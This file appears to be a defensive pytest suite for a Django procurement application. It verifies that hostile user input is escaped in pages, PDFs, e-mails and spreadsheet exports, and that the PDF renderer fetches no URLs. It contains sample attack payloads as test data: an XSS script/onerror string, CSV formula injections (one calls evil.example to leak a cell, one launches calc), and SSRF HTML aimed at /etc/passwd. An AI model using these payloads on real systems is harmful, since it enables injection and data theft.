"""Hostile text typed into Tandem never runs anywhere it is shown.

A script-and-attribute payload is put into every free-text field a user can fill along a case (the case and its
need, the urgency justification, suppliers and establishments, offers and their supply chain, vetting findings and
countersignature, conformity claims, evidence and override, negotiation rounds, award reason, the comments and
reasons of every step, modifications of the contract, sanctions reviews). Then:

- pages: each field shows up escaped on some page, and no page anywhere carries the raw tags;
- PDFs (contract, auditors' dossier, dashboard): the payload is printed as text (read back with pypdf);
- e-mails: plain text only, no HTML part for a mail client to run;
- CSV/XLSX exports: a cell starting with = + - @ (or tab, CR) is neutralised with a leading quote, and stored
  control characters do not break the workbook;
- WeasyPrint: URLs in user content (file://, a local HTTP server) are never fetched, and the PDF still renders.
"""

import csv
import io
import re
import threading
import zipfile
from datetime import timedelta
from decimal import Decimal
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import openpyxl
import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from pypdf import PdfReader
from stdnum import luhn

from contracts import audit, rendering
from contracts import services as contract_services
from contracts.models import CLAUSES, Contract
from notifications.models import Notification
from notifications.services import notification_deliver
from procurement import services
from procurement.catalogue import Incoterm
from procurement.models import EvidenceKind, NormClass, SupplyChainParty
from suppliers import services as supplier_services
from suppliers.models import SanctionsScreening
from tests import factories
from tests.factories import make_case, make_contract, need_line_data, render_pending, round_data
from tests.test_permissions import SANCTIONS_SAMPLE

pytestmark = pytest.mark.django_db

# The attack: close an attribute, open a tag with a handler, open a script.
ATTACK = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
# Fields too short for the whole attack get its attribute-and-handler part.
SHORT_ATTACK = "\"'><img src=x onerror=u()>"
RAW_TAGS = ("<script>alert(", "<img src=x onerror")


def payload(field: str) -> str:
    """The attack, tagged with the field it was typed into so that each sink can be traced to its field."""
    return f"[{field}]{ATTACK}"


def _escaped_marker(field: str) -> str:
    """How a page shows the start of the field (templates may truncate the rest)."""
    return escape(f"[{field}]<script>")


def _squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)


# --- the case, built through the services with the payload in every free-text field -----------------
def _establishment_siret(supplier) -> str:
    base = supplier.siren + "0099"
    return base + luhn.calc_check_digit(base)


def _conformity(offer, buyer):
    body = factories.ppe_body()
    today = timezone.localdate()
    model = payload("claim_model")[:100]

    def evidence(kind, **fields):
        upload = SimpleUploadedFile(f"{kind}.pdf", factories.PDF_EVIDENCE, content_type="application/pdf")
        return {"kind": kind, "uploaded": upload, "model_reference": model, **fields}

    return services.conformity_record(
        offer=offer,
        actor=buyer,
        claim={
            "norm_class": NormClass.objects.get(norm__code="EN 149:2001+A1:2009", label="FFP2"),
            "model_reference": model,
            "marking": payload("claim_marking")[:100],
            "ce_number": "2797",
            "filtration": Decimal("98"),
            "inward_leakage": Decimal("6"),
        },
        evidence=[
            evidence(EvidenceKind.DECLARATION, issuer=payload("evidence_issuer")),
            evidence(
                EvidenceKind.TYPE_EXAMINATION,
                issuer=body.name,
                notified_body=body,
                number=payload("evidence_number")[:100],
                issued_on=today - timedelta(days=365),
                expires_on=today + timedelta(days=3 * 365),
            ),
            evidence(EvidenceKind.PRODUCTION_CONTROL, issuer=body.name, notified_body=body, number="2797-D-77"),
            evidence(EvidenceKind.TEST_REPORT, issuer="Laboratoire d'essais"),
        ],
        findings=payload("check_findings"),
    )


@pytest.fixture
def world(buyer, jurist, director, delegation):
    org = buyer.organisation
    supplier = factories.SupplierFactory(
        organisation=org, created_by=buyer, name=payload("supplier_name"), address=payload("supplier_address")
    )
    supplier_services.establishment_add(
        supplier=supplier,
        actor=buyer,
        siret=_establishment_siret(supplier),
        label=payload("establishment_label"),
        address=payload("establishment_address"),
    )
    case = services.case_create(
        actor=buyer,
        title=payload("case_title"),
        need_lines=[
            need_line_data(
                description=payload("need_description"),
                delivery_place=payload("need_delivery_place"),
                unit=SHORT_ATTACK,
            )
        ],
        justification=factories.justification_data(
            triggering_event=payload("triggering_event"),
            triggering_text=payload("triggering_text"),
            time_limits_impossible=payload("time_limits_impossible"),
            causal_link=payload("causal_link"),
            strictly_necessary_scope=payload("strictly_necessary_scope"),
        ),
    )
    case = services.case_submit(case=case, actor=buyer)
    line = case.need_lines.get()
    offer = services.offer_create(
        case=case,
        actor=buyer,
        need_line=line,
        supplier=supplier,
        product_description=payload("product_description"),
        unit_price=Decimal("0.85"),
        quantity=line.quantity,
        delivery_date=line.required_date,
        incoterm=Incoterm.DAP,
        delivery_place=payload("offer_delivery_place"),
    )
    carrier = factories.SupplierFactory(organisation=org, created_by=buyer, name="Fret Express")
    services.chain_party_add(
        offer=offer, actor=buyer, supplier=carrier, role=SupplyChainParty.Role.CARRIER, note=payload("chain_note")
    )
    decision = services.vetting_decide(
        case=case, supplier=supplier, actor=buyer, decision="approved", findings=payload("vetting_findings")
    )
    assert decision.awaiting_countersign  # no documents: red flags, a jurist countersigns
    services.vetting_countersign(decision=decision, actor=jurist, approve=True, comment=payload("countersign_comment"))
    case = services.case_start_norm_check(case=case, actor=buyer)
    check = _conformity(offer, buyer)
    services.conformity_override(check=check, actor=jurist, verdict="conform", reason=payload("override_reason"))
    case = services.case_start_negotiation(case=case, actor=buyer)
    services.negotiation_round_add(
        offer=offer,
        actor=buyer,
        **round_data(
            offer,
            penalties=payload("round_penalties"),
            proposed_by=payload("round_proposed_by"),
            note=payload("round_note"),
            delivery_place=payload("round_delivery_place"),
        ),
    )
    (contract,) = contract_services.case_award(
        case=case, actor=buyer, awards={offer.pk: line.quantity}, reason=payload("award_reason")
    )
    render_pending(contract)
    contract = Contract.objects.get(pk=contract.pk)
    contract = contract_services.contract_submit_for_review(
        contract=contract, actor=buyer, rendered_sha256=contract.current_document.sha256
    )
    contract = contract_services.contract_request_changes(
        contract=contract, actor=jurist, comment=payload("request_changes_comment")
    )
    contract = contract_services.contract_amend(
        contract=contract,
        actor=buyer,
        quantity=contract.quantity,
        unit_price=Decimal("0.8400"),
        comment=payload("amend_comment"),
        terms_version=contract.terms_version,
    )
    render_pending(contract)
    contract = Contract.objects.get(pk=contract.pk)
    contract = contract_services.contract_submit_for_review(
        contract=contract, actor=buyer, rendered_sha256=contract.current_document.sha256
    )
    contract = contract_services.contract_approve(
        contract=contract, actor=jurist, rendered_sha256=contract.current_document.sha256, clauses=list(CLAUSES)
    )
    contract = contract_services.contract_sign(contract=contract, actor=director)
    contract = contract_services.contract_notify_supplier(contract=contract, actor=buyer)
    contract_services.contract_modify(
        contract=contract,
        actor=buyer,
        quantity=contract.quantity - 1000,
        unit_price=contract.unit_price,
        reason=payload("modification_reason"),
        notified_on=timezone.localdate(),
        terms_version=contract.terms_version,
    )

    # A second case: sent back to vetting, then cancelled, each with its comment.
    other = make_case(buyer, "norm_check", title="Gants nitrile")
    other = services.case_back_to_vetting(case=other, actor=buyer, comment=payload("back_to_vetting_comment"))
    other = contract_services.case_cancel(case=other, actor=jurist, comment=payload("cancel_reason"))

    # A possible sanctions match, cleared by a jurist with a reason.
    supplier_services.sanctions_import(data=SANCTIONS_SAMPLE.read_bytes(), original_name=SANCTIONS_SAMPLE.name)
    listed = factories.SupplierFactory(
        organisation=org, name="Comptoir Méditerranéen d'Import-Export", created_by=buyer
    )
    [screening] = supplier_services.supplier_screen(supplier=listed)
    assert screening.review == SanctionsScreening.Review.PENDING
    supplier_services.screening_review(
        screening=screening, actor=jurist, review="cleared", reason=payload("screening_reason")
    )

    return {
        "case": case,
        "other": other,
        "offer": offer,
        "supplier": supplier,
        "listed": listed,
        "contract": Contract.objects.get(pk=contract.pk),
        "users": {"buyer": buyer, "jurist": jurist, "director": director},
    }


FIELDS = [
    "case_title",
    "need_description",
    "need_delivery_place",
    "triggering_event",
    "triggering_text",
    "time_limits_impossible",
    "causal_link",
    "strictly_necessary_scope",
    "supplier_name",
    "supplier_address",
    "establishment_label",
    "establishment_address",
    "product_description",
    "offer_delivery_place",
    "chain_note",
    "vetting_findings",
    "countersign_comment",
    "claim_model",
    "claim_marking",
    "evidence_issuer",
    "evidence_number",
    "check_findings",
    "override_reason",
    "round_penalties",
    "round_proposed_by",
    "round_note",
    "round_delivery_place",
    "award_reason",
    "request_changes_comment",
    "amend_comment",
    "modification_reason",
    "back_to_vetting_comment",
    "cancel_reason",
    "screening_reason",
]


# The claim's marking and the check's findings are read in the auditors' dossier (checked below), not on a page.
DOSSIER_ONLY = {"claim_marking", "check_findings"}


def _pages(world) -> dict[str, tuple[str, str]]:
    """Every page showing the case's data: name → (who looks, URL)."""
    case, other, offer, contract = world["case"], world["other"], world["offer"], world["contract"]
    return {
        "case list": ("buyer", reverse("procurement:case_list")),
        "case": ("buyer", reverse("procurement:case_detail", args=[case.pk])),
        "other case": ("buyer", reverse("procurement:case_detail", args=[other.pk])),
        "offer": ("buyer", reverse("procurement:offer_detail", args=[offer.pk])),
        "offer comparison": ("buyer", reverse("procurement:offer_comparison", args=[case.pk])),
        "supplier list": ("buyer", reverse("suppliers:list")),
        "supplier": ("buyer", reverse("suppliers:detail", args=[world["supplier"].pk])),
        "listed supplier": ("jurist", reverse("suppliers:detail", args=[world["listed"].pk])),
        "contract list": ("buyer", reverse("contracts:list")),
        "contract": ("jurist", reverse("contracts:detail", args=[contract.pk])),
        "buyer's notifications": ("buyer", reverse("notifications:inbox")),
        "jurist's notifications": ("jurist", reverse("notifications:inbox")),
        "dashboard": ("director", reverse("dashboard:index")),
    }


def test_pages_show_every_field_escaped_and_never_the_raw_tags(client, world):
    shown_in: dict[str, list[str]] = {field: [] for field in FIELDS}
    for page, (role, url) in _pages(world).items():
        client.force_login(world["users"][role])
        response = client.get(url)
        assert response.status_code == 200, (page, response.status_code)
        html = response.content.decode()
        for tag in RAW_TAGS:
            assert tag not in html, f"{page}: raw {tag!r} at …{html[max(0, html.find(tag) - 200) : html.find(tag)]}"
        assert escape(SHORT_ATTACK) in html or page != "case", "the need's unit is not shown escaped"
        for field in FIELDS:
            if _escaped_marker(field) in html:
                shown_in[field].append(page)
    unshown = [field for field, pages in shown_in.items() if not pages]
    assert unshown == sorted(DOSSIER_ONLY, key=FIELDS.index), "fields shown on no page"
    pairs = sum(len(pages) for pages in shown_in.values())
    assert pairs >= len(FIELDS)


def _pdf_text(data: bytes) -> str:
    reader = PdfReader(io.BytesIO(data))
    return _squeezed("".join(page.extract_text() or "" for page in reader.pages))


def _printed(text: str, fields) -> list[str]:
    """The fields whose whole payload is printed as text in a PDF's text."""
    return [field for field in fields if _squeezed(payload(field)) in text]


CONTRACT_PDF_FIELDS = [
    "case_title",
    "need_description",
    "triggering_event",
    "triggering_text",
    "time_limits_impossible",
    "causal_link",
    "strictly_necessary_scope",
    "supplier_name",
    "supplier_address",
    "product_description",
    "round_penalties",
    "round_delivery_place",
]
DOSSIER_PDF_FIELDS = [
    "case_title",
    "supplier_name",
    "vetting_findings",
    "countersign_comment",
    "claim_model",
    "claim_marking",
    "evidence_issuer",
    "evidence_number",
    "check_findings",
    "override_reason",
    "award_reason",
    "request_changes_comment",
    "amend_comment",
    "modification_reason",
]


def test_pdfs_print_the_payload_as_text(client, world, private_storage):
    contract = world["contract"]
    document = contract.current_document
    contract_text = _pdf_text((private_storage / document.file.name).read_bytes())
    assert _printed(contract_text, CONTRACT_PDF_FIELDS) == CONTRACT_PDF_FIELDS

    archive = io.BytesIO()
    audit.write_case_file(world["case"], archive)
    with zipfile.ZipFile(archive) as zipped:
        (dossier,) = [name for name in zipped.namelist() if name.startswith("dossier-") and name.endswith(".pdf")]
        dossier_text = _pdf_text(zipped.read(dossier))
    assert _printed(dossier_text, DOSSIER_PDF_FIELDS) == DOSSIER_PDF_FIELDS

    client.force_login(world["users"]["director"])
    response = client.get(reverse("dashboard:pdf"))
    assert response.status_code == 200
    assert _printed(_pdf_text(response.content), ["supplier_name"]) == ["supplier_name"]


def test_emails_are_plain_text_only(world):
    mail.outbox.clear()
    for pk in Notification.objects.filter(email_status="pending").values_list("pk", flat=True):
        notification_deliver(notification_id=pk)
    assert mail.outbox, "no e-mail sent"
    carried = set()
    for message in mail.outbox:
        assert message.content_subtype == "plain"
        assert getattr(message, "alternatives", []) == []
        assert message.message().get_content_type() == "text/plain"
        carried |= {field for field in FIELDS if payload(field) in message.body}
    # What the user typed reaches the e-mails (as text) in these fields.
    assert {"cancel_reason", "request_changes_comment", "supplier_name"} <= carried


def test_multi_line_reasons_reach_the_emails(buyer, jurist):
    """Comment boxes take several lines; the e-mail subject is one line (a newline in a header is refused by
    Django), the body keeps the text as typed."""
    reason = "Besoin couvert par l'État.\r\nVoir la note du préfet\n<b>du 3 avril</b>."
    case = make_case(buyer, "need")
    contract_services.case_cancel(case=case, actor=jurist, comment=reason)
    contract = make_contract(buyer, "legal_review", jurist=jurist)
    contract_services.contract_request_changes(contract=contract, actor=jurist, comment=reason)
    mail.outbox.clear()

    for notification in Notification.objects.filter(verb__in=["case_cancelled", "contract_returned"]):
        notification_deliver(notification_id=notification.pk)
        notification.refresh_from_db()
        assert (notification.email_status, notification.email_attempts) == ("sent", 1)
    assert len(mail.outbox) == 2
    for message in mail.outbox:
        assert "\n" not in message.subject
        assert "\r" not in message.subject
        assert "Voir la note du préfet" in message.subject
        assert reason in message.body
        assert message.content_subtype == "plain"


# --- exports ------------------------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Voir")',
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


def _xlsx_cells(response) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    try:
        return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    finally:
        workbook.close()


def _assert_neutralised(cells: list[str], values: list[str]) -> None:
    for value in values:
        assert "'" + value in cells, f"{value!r} not neutralised"
        assert value not in cells, f"{value!r} exported as a formula"
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_case_list_exports_neutralise_formulas(client, buyer):
    # Titles are stored stripped ("\t=1+1" becomes "=1+1"); supplier names set directly keep a leading tab or CR.
    titles = [make_case(buyer, "need", title=formula).title for formula in FORMULAS]
    supplier_names = ["\t=cmd|' /C calc'!A0", "\r@SUM(1)"]
    for name in supplier_names:
        offer = make_case(buyer, "vetting", title="Surblouses").offers.get()
        type(offer.supplier).objects.filter(pk=offer.supplier_id).update(name=name)
    client.force_login(buyer)

    cells = _csv_cells(client.get(reverse("procurement:case_list_export", args=["csv"])))
    _assert_neutralised(cells, titles + supplier_names)

    xlsx = _xlsx_cells(client.get(reverse("procurement:case_list_export", args=["xlsx"])))
    assert not [cell.coordinate for cell in xlsx if cell.data_type == "f"], "a cell is a formula"
    _assert_neutralised([cell.value for cell in xlsx if isinstance(cell.value, str)], titles + supplier_names)


def test_dashboard_exports_neutralise_formulas_and_survive_control_characters(client, buyer, jurist, director):
    names = ['=HYPERLINK("http://evil.example","x")', "@SUM(1+1)", "Fret\x0bdu\x1fSud", "\x01=SUM(2)"]
    for name in names:
        contract = make_contract(buyer, "approved", jurist=jurist)  # approved: the amount counts as committed
        type(contract.offer.supplier).objects.filter(pk=contract.offer.supplier_id).update(name=name)
    client.force_login(director)

    cells = _csv_cells(client.get(reverse("dashboard:export", args=["csv"])))
    _assert_neutralised(cells, names[:2])

    response = client.get(reverse("dashboard:export", args=["xlsx"]))
    assert response.status_code == 200
    xlsx = _xlsx_cells(response)
    assert not [cell.coordinate for cell in xlsx if cell.data_type == "f"], "a cell is a formula"
    values = [cell.value for cell in xlsx if isinstance(cell.value, str)]
    # Control characters dropped (XLSX forbids them), then what they hid is neutralised too.
    _assert_neutralised(values, [*names[:2], "=SUM(2)"])
    assert "FretduSud" in values


# --- WeasyPrint never fetches what user content points to --------------------------------------
class _Recorder(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 (http.server's naming)
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        self.wfile.write(b"secret from the intranet")

    def log_message(self, *args):
        pass


@pytest.fixture
def local_server():
    """An HTTP server on the loopback, as an intranet service WeasyPrint must never reach."""
    handler = type("Recorder", (_Recorder,), {"hits": []})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", handler.hits
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


def _ssrf_html(base: str) -> str:
    return (
        f'<img src="file:///etc/passwd"><img src="{base}/img.png">'
        f'<link rel="stylesheet" href="{base}/style.css"><link rel="attachment" href="file:///etc/passwd">'
        f'<a rel="attachment" href="{base}/attached.txt">pièce jointe</a>'
        f"<style>@import url({base}/import.css); p {{ background: url({base}/bg.png) }}"
        f"@font-face {{ font-family: x; src: url(file:///etc/passwd) }}</style>"
        f'<object data="{base}/object.svg"></object><iframe src="{base}/frame"></iframe>'
        f'<img src="tandem-static:../../../../etc/passwd"><img src="tandem-static:/etc/passwd">'
    )


def _assert_nothing_leaked(pdf: bytes, hits: list[str]) -> None:
    assert pdf.startswith(b"%PDF-")
    assert hits == [], f"WeasyPrint reached the local server: {hits}"
    reader = PdfReader(io.BytesIO(pdf))
    assert reader.attachments == {}
    assert b"root:x:0:0" not in pdf
    assert b"secret from the intranet" not in pdf


def test_the_fetcher_refuses_every_url_but_the_static_files(local_server):
    base, hits = local_server
    fetcher = rendering.StaticOnlyFetcher()
    for url in ("file:///etc/passwd", f"{base}/x", "https://example.org/x", "tandem-static:../../etc/passwd"):
        with pytest.raises(ValueError, match="Refused"):
            fetcher.fetch(url)
    assert hits == []
    assert fetcher.fetch("tandem-static:css/tandem.css").read()  # the project's own files are served

    # Raw HTML (as if a template forgot to escape): the references are refused, the PDF still renders.
    _assert_nothing_leaked(rendering.render_pdf(f"<html><body><p>Contrat</p>{_ssrf_html(base)}</body></html>"), hits)


def test_urls_typed_into_a_contract_are_printed_not_fetched(buyer, local_server, private_storage):
    base, hits = local_server
    attack = _ssrf_html(base)
    case = make_case(buyer, "negotiation", render=False)
    offer = case.offers.get()
    type(offer.supplier).objects.filter(pk=offer.supplier_id).update(address=attack)
    type(offer).objects.filter(pk=offer.pk).update(product_description=attack[:300])
    (contract,) = contract_services.case_award(
        case=case, actor=buyer, awards={offer.pk: offer.quantity}, reason="Seul fournisseur conforme."
    )
    render_pending(contract)
    document = Contract.objects.get(pk=contract.pk).current_document
    pdf = (private_storage / document.file.name).read_bytes()
    _assert_nothing_leaked(pdf, hits)
    assert _squeezed('<img src="file:///etc/passwd">') in _pdf_text(pdf)  # shown as the text it is
